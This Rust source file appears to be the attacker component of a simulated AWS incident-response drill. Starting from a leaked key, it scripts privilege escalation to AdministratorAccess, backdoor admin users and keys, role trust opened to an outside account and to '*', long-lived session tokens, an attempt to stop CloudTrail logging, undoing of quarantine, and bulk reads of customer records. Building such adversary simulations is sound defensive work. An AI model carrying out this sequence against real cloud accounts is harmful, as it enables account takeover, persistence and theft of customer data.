//! The attacker: from a leaked key to another account's data, and then a race against the response.
//!
//! Owns what the attacker holds and tries. The adversary is a hard one: it acts between every two steps of the
//! response and every second that the response waits, tries everything that it holds, and even knows the
//! names of what is put against it.

use jiff::SignedDuration;
use serde_json::{Value, json};
use stockade_cloud::{Client, Credentials};

use crate::actor::{Actor, credentials, is_dead};
use crate::company::Company;
use crate::error::DrillError;
use crate::telling::{Teller, Voice};
use crate::world::{RECORDS, World, policy, record_key};

const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
/// How many users it makes in the race at most: it could go on for ever.
const NEWCOMERS: usize = 2;
/// From where it comes: an address for documentation.
pub(crate) const ADDRESS: &str = "203.0.113.77";

/// Whose credentials they are.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Holder {
    /// A user's own key.
    User(String),
    /// A session of GetSessionToken.
    Session,
    /// A session of the role in the second account.
    Role,
    /// A key in the attacker's own account.
    Outside,
}

struct Holding {
    holder: Holder,
    client: Client,
}

/// What the response puts against it, by name.
#[derive(Debug, Clone, Default)]
pub(crate) struct Against {
    pub user_policy: String,
    pub role_policy: String,
}

/// The attacker.
pub(crate) struct Adversary {
    pub actor: Actor,
    holdings: Vec<Holding>,
    /// The long-term keys that it knows of, by user.
    keys: Vec<(String, String)>,
    newcomers: usize,
    strikes: usize,
    against: Against,
    reader: String,
    maintenance: String,
    orders: String,
    records: String,
    /// Whether it also opens doors in the race that no plan can know of: the trust of another role.
    opens_doors: bool,
    ops: String,
    /// The keys and sessions that it had when the response began.
    pub early: Vec<String>,
    /// How many customers' records it has.
    pub loot: usize,
}

impl Adversary {
    /// Somebody with the leaked key.
    pub(crate) fn new(world: &World) -> Self {
        let agent = "aws-cli/1.32.9 Python/3.9.2 Linux/5.10.0-28-amd64 botocore/1.34.9";
        let [leaked, ..] = world.keys.clone();
        let actor = Actor::new("the attacker", &world.admin, leaked.clone(), ADDRESS, agent);
        let shop = &world.accounts.shop;
        let outside = actor.client_with(world.outside.clone());
        let own = actor.client_with(leaked.clone());
        let holdings = vec![
            Holding {
                holder: Holder::User("deploy-bot".into()),
                client: own,
            },
            Holding {
                holder: Holder::Outside,
                client: outside,
            },
        ];
        Self {
            actor,
            holdings,
            keys: vec![("deploy-bot".into(), leaked.access_key)],
            newcomers: 0,
            strikes: 0,
            against: Against::default(),
            reader: format!("arn:aws:iam::{}:role/data-reader", world.accounts.data),
            maintenance: format!("arn:aws:iam::{shop}:role/maintenance"),
            orders: world.buckets.orders.clone(),
            records: world.buckets.records.clone(),
            opens_doors: false,
            ops: format!("arn:aws:iam::{shop}:role/ops"),
            early: Vec::new(),
            loot: 0,
        }
    }

    /// The ids of all keys and sessions that it has ever held in our accounts.
    pub(crate) fn held(&self) -> Vec<String> {
        self.holdings
            .iter()
            .filter(|holding| holding.holder != Holder::Outside)
            .map(|holding| holding.client.config().credentials.access_key.clone())
            .collect()
    }

    /// The response begins: this is what will be put against it.
    pub(crate) fn learn(&mut self, against: Against, opens_doors: bool) {
        self.opens_doors = opens_doors;
        self.early = self.held();
        self.against = against;
    }

    async fn first(&mut self, service: &str, operation: &str, input: Value) -> Option<Value> {
        self.actor.call(service, operation, input).await.ok()
    }

    fn take(&mut self, holder: Holder, answer: &Value) -> Option<Client> {
        let credentials: Credentials = credentials(answer)?;
        if let Holder::User(name) = &holder {
            self.keys
                .push((name.clone(), credentials.access_key.clone()));
        }
        let client = self.actor.client_with(credentials);
        self.holdings.push(Holding {
            holder,
            client: client.clone(),
        });
        Some(client)
    }

    /// What it tries when it is its turn: with everything that it holds it works on the quarantine, and on one
    /// thing more, another one each time, so that each has come round before a change has spread.
    pub(crate) async fn strike(&mut self) {
        self.strikes += 1;
        let holdings: Vec<(Holder, Client)> = self
            .holdings
            .iter()
            .map(|holding| (holding.holder.clone(), holding.client.clone()))
            .collect();
        for (place, (holder, client)) in holdings.into_iter().enumerate() {
            let turn = self.strikes + place;
            match holder {
                Holder::User(name) => self.fight(&name, &client, turn).await,
                Holder::Session => self.with_session(&client, turn).await,
                Holder::Role => self.with_role(&client, turn).await,
                Holder::Outside => {
                    for role in [self.maintenance.clone(), self.ops.clone()] {
                        let input = json!({"RoleArn": role, "RoleSessionName": "vendor"});
                        let _ = self
                            .actor
                            .call_with(&client, "sts", "AssumeRole", input)
                            .await;
                    }
                }
            }
        }
    }

    /// With a user's key: takes the quarantine off, switches the key on, and makes something new.
    async fn fight(&mut self, name: &str, client: &Client, turn: usize) {
        let input = json!({"UserName": name, "PolicyName": self.against.user_policy});
        let taken = self
            .actor
            .call_with(client, "iam", "DeleteUserPolicy", input)
            .await;
        // To a dead key every call has the same answer.
        if taken.is_err_and(|error| is_dead(&error)) {
            return;
        }
        if self.opens_doors {
            let document = policy(
                json!([{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]),
            );
            let input = json!({"RoleName": "ops", "PolicyDocument": document});
            let _ = self
                .actor
                .call_with(client, "iam", "UpdateAssumeRolePolicy", input)
                .await;
        }
        // Its own keys first, then those of the others in turn.
        let other = self.keys.get(turn % self.keys.len().max(1)).cloned();
        let own = self.keys.iter().filter(|(user, _)| user == name).cloned();
        let mut keys: Vec<(String, String)> = own.chain(other).collect();
        keys.dedup();
        for (user, id) in keys {
            let input = json!({"UserName": user, "AccessKeyId": id, "Status": "Active"});
            let _ = self
                .actor
                .call_with(client, "iam", "UpdateAccessKey", input)
                .await;
        }
        match turn % 4 {
            0 => {
                let input = json!({"UserName": name});
                if let Ok(made) = self
                    .actor
                    .call_with(client, "iam", "CreateAccessKey", input)
                    .await
                {
                    self.take(Holder::User(name.to_owned()), &made);
                }
            }
            1 => self.new_user(client).await,
            2 => self.assume(client).await,
            _ => {
                let input = json!({"PolicyId": "p-quarantine1", "TargetId": "123456789012"});
                let _ = self
                    .actor
                    .call_with(client, "organizations", "DetachPolicy", input)
                    .await;
                let input = json!({"Bucket": self.orders, "Key": "incoming/order-001.json"});
                let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
            }
        }
    }

    /// A new administrator with a key. When it has enough of them it tries the last one's name again: whoever may
    /// make users is told that there is one already, and whoever may not is refused.
    async fn new_user(&mut self, client: &Client) {
        let number = (self.newcomers + 1).min(NEWCOMERS);
        let name = format!("svc-backup-{number}");
        let input = json!({"UserName": name});
        if self
            .actor
            .call_with(client, "iam", "CreateUser", input.clone())
            .await
            .is_err()
        {
            return;
        }
        self.newcomers = number;
        let attach = json!({"UserName": name, "PolicyArn": ADMINISTRATOR});
        let _ = self
            .actor
            .call_with(client, "iam", "AttachUserPolicy", attach)
            .await;
        if let Ok(made) = self
            .actor
            .call_with(client, "iam", "CreateAccessKey", input)
            .await
        {
            self.take(Holder::User(name), &made);
        }
    }

    async fn assume(&mut self, client: &Client) {
        let input = json!({"RoleArn": self.reader, "RoleSessionName": "report"});
        if let Ok(answer) = self
            .actor
            .call_with(client, "sts", "AssumeRole", input)
            .await
        {
            // One session at a time is enough to show it, the newest.
            if self
                .holdings
                .iter()
                .filter(|h| h.holder == Holder::Role)
                .count()
                >= 3
                && let Some(place) = self.holdings.iter().rposition(|h| h.holder == Holder::Role)
            {
                self.holdings.remove(place);
            }
            self.take(Holder::Role, &answer);
        }
    }

    async fn with_session(&mut self, client: &Client, turn: usize) {
        if turn.is_multiple_of(2) {
            self.assume(client).await;
        }
        let input = json!({"Bucket": self.orders, "Key": "incoming/order-002.json"});
        let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
    }

    async fn with_role(&mut self, client: &Client, turn: usize) {
        let input = json!({"Bucket": self.records, "Key": record_key(1)});
        let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
        if turn.is_multiple_of(4) {
            let input = json!({"RoleName": "data-reader", "PolicyName": self.against.role_policy});
            let _ = self
                .actor
                .call_with(client, "iam", "DeleteRolePolicy", input)
                .await;
        }
    }
}

/// Lets time pass while everybody honest works.
pub(crate) async fn pass(world: &World, company: &mut Company, by: SignedDuration) {
    let mut left = by;
    while left.is_positive() {
        let step = left.min(SignedDuration::from_secs(30));
        let now = world.range.advance(step);
        company.work(now).await;
        left -= step;
    }
}

/// The attack, told as it goes.
pub(crate) async fn attack(
    world: &World,
    company: &mut Company,
    teller: &Teller<'_>,
) -> Result<Adversary, DrillError> {
    let mut attacker = Adversary::new(world);
    teller.tell(
        Voice::Attacker,
        format!("finds the key of deploy-bot in a public repository and uses it from {ADDRESS}"),
    );
    let refused = explore(world, company, &mut attacker).await;
    teller.tell(
        Voice::Attacker,
        format!("asks who it is, reads users, roles and policies of the account; {refused} other calls are refused"),
    );
    let input = json!({"UserName": "deploy-bot", "PolicyArn": ADMINISTRATOR});
    step(&mut attacker, "iam", "AttachUserPolicy", input).await?;
    teller.tell(
        Voice::Attacker,
        "attaches AdministratorAccess to its own user, which a careless statement allows",
    );
    pass(world, company, SignedDuration::from_secs(75)).await;
    settle_in(world, company, &mut attacker, teller).await?;
    steal(world, company, &mut attacker, teller).await?;
    Ok(attacker)
}

async fn step(
    attacker: &mut Adversary,
    service: &str,
    operation: &str,
    input: Value,
) -> Result<Value, DrillError> {
    let answer = attacker.actor.call(service, operation, input).await;
    answer.map_err(|error| {
        DrillError::stuck(
            format!("the attacker's {service}:{operation}"),
            error.to_string(),
        )
    })
}

/// Who am I, what is there, what may I do? Returns how much was refused.
async fn explore(world: &World, company: &mut Company, attacker: &mut Adversary) -> usize {
    let calls = [
        ("sts", "GetCallerIdentity", json!({})),
        ("s3", "ListBuckets", json!({})),
        ("iam", "ListUsers", json!({})),
        ("iam", "ListRoles", json!({})),
        ("iam", "GetAccountAuthorizationDetails", json!({})),
        (
            "iam",
            "ListAttachedUserPolicies",
            json!({"UserName": "deploy-bot"}),
        ),
        ("iam", "ListUserPolicies", json!({"UserName": "deploy-bot"})),
        (
            "iam",
            "GetUserPolicy",
            json!({"UserName": "deploy-bot", "PolicyName": "deploy-bot-work"}),
        ),
        ("iam", "ListGroups", json!({})),
        ("organizations", "DescribeOrganization", json!({})),
        ("cloudtrail", "DescribeTrails", json!({})),
        ("iam", "CreateUser", json!({"UserName": "support-svc"})),
        ("iam", "CreateAccessKey", json!({"UserName": "deploy-bot"})),
        (
            "sts",
            "AssumeRole",
            json!({"RoleArn": attacker.maintenance.clone(), "RoleSessionName": "test"}),
        ),
        (
            "sts",
            "AssumeRole",
            json!({"RoleArn": attacker.reader.clone(), "RoleSessionName": "test"}),
        ),
    ];
    let mut refused = 0;
    for (service, operation, input) in calls {
        refused += usize::from(attacker.first(service, operation, input).await.is_none());
        pass(world, company, SignedDuration::from_secs(11)).await;
    }
    refused
}

/// A second key, a user, a door for an account outside, a long session.
async fn settle_in(
    world: &World,
    company: &mut Company,
    attacker: &mut Adversary,
    teller: &Teller<'_>,
) -> Result<(), DrillError> {
    let made = step(
        attacker,
        "iam",
        "CreateAccessKey",
        json!({"UserName": "deploy-bot"}),
    )
    .await?;
    attacker.take(Holder::User("deploy-bot".into()), &made);
    teller.tell(Voice::Attacker, "makes a second key for deploy-bot");
    pass(world, company, SignedDuration::from_secs(40)).await;
    let user = json!({"UserName": "support-svc"});
    step(attacker, "iam", "CreateUser", user.clone()).await?;
    let attach = json!({"UserName": "support-svc", "PolicyArn": ADMINISTRATOR});
    step(attacker, "iam", "AttachUserPolicy", attach).await?;
    let made = step(attacker, "iam", "CreateAccessKey", user).await?;
    attacker.take(Holder::User("support-svc".into()), &made);
    teller.tell(
        Voice::Attacker,
        "makes the user support-svc, an administrator with a key",
    );
    pass(world, company, SignedDuration::from_secs(50)).await;
    let shop = &world.accounts.shop;
    let outside = &world.accounts.outside;
    let document = policy(json!([
        {"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{shop}:role/ops")}, "Action": "sts:AssumeRole"},
        {"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{outside}:root")}, "Action": "sts:AssumeRole"},
    ]));
    let input = json!({"RoleName": "maintenance", "PolicyDocument": document});
    step(attacker, "iam", "UpdateAssumeRolePolicy", input).await?;
    teller.tell(
        Voice::Attacker,
        format!("lets its own account {outside} take the role maintenance"),
    );
    pass(world, company, SignedDuration::from_secs(35)).await;
    let answer = step(
        attacker,
        "sts",
        "GetSessionToken",
        json!({"DurationSeconds": 129_600}),
    )
    .await?;
    attacker.take(Holder::Session, &answer);
    teller.tell(
        Voice::Attacker,
        "gets a session of 36 hours, which outlives the key that it came from",
    );
    let input = json!({"Name": world.trail});
    if attacker
        .first("cloudtrail", "StopLogging", input)
        .await
        .is_some()
    {
        return Err(DrillError::stuck(
            "StopLogging",
            "a member account stopped the organisation's trail",
        ));
    }
    teller.tell(
        Voice::Attacker,
        "tries to stop the organisation's trail, and cannot",
    );
    pass(world, company, SignedDuration::from_secs(60)).await;
    Ok(())
}

/// The second account's data, by the long session.
async fn steal(
    world: &World,
    company: &mut Company,
    attacker: &mut Adversary,
    teller: &Teller<'_>,
) -> Result<(), DrillError> {
    let session = attacker
        .holdings
        .iter()
        .find(|h| h.holder == Holder::Session)
        .map(|h| h.client.clone());
    let session =
        session.ok_or_else(|| DrillError::stuck("GetSessionToken", "no session was handed out"))?;
    let input = json!({"RoleArn": attacker.reader, "RoleSessionName": "report"});
    let answer = attacker
        .actor
        .call_with(&session, "sts", "AssumeRole", input)
        .await?;
    let role = attacker.take(Holder::Role, &answer);
    let role = role.ok_or_else(|| DrillError::stuck("AssumeRole", "no session was handed out"))?;
    let bucket = world.buckets.records.clone();
    let list = json!({"Bucket": bucket});
    attacker
        .actor
        .call_with(&role, "s3", "ListObjectsV2", list)
        .await?;
    for number in 1..=RECORDS {
        let input = json!({"Bucket": bucket, "Key": record_key(number)});
        let got = attacker
            .actor
            .call_with(&role, "s3", "GetObject", input)
            .await;
        attacker.loot += usize::from(got.is_ok());
        pass(world, company, SignedDuration::from_secs(4)).await;
    }
    teller.tell(
        Voice::Attacker,
        format!(
            "takes the role data-reader in the second account and reads {} customers' records",
            attacker.loot
        ),
    );
    Ok(())
}
